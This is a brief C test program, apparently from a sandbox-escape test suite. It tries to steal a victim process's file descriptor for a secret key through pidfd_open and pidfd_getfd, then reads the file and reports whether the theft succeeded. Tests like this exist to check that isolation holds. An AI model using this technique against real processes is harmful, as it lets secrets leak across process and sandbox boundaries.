/* pidfd_open + pidfd_getfd: take the key's descriptor from a process outside the tree. */
#include "../escape.h"
int main(void) {
    pid_t v = env_long("ESCAPE_VICTIM_PID");
    int vfd = env_long("ESCAPE_VICTIM_FD");
    int pfd = syscall(SYS_pidfd_open, v, 0);
    if (pfd < 0)
        FAILED("pidfd_open: %s", strerror(errno));
    int fd = syscall(SYS_pidfd_getfd, pfd, vfd, 0);
    if (fd < 0)
        FAILED("pidfd_getfd: %s", strerror(errno));
    char buf[4096];
    ssize_t n = pread(fd, buf, sizeof buf, 0);
    if (n > 0 && has_marker(buf, n))
        WON("stole another process's descriptor of the key");
    FAILED("no secret");
}
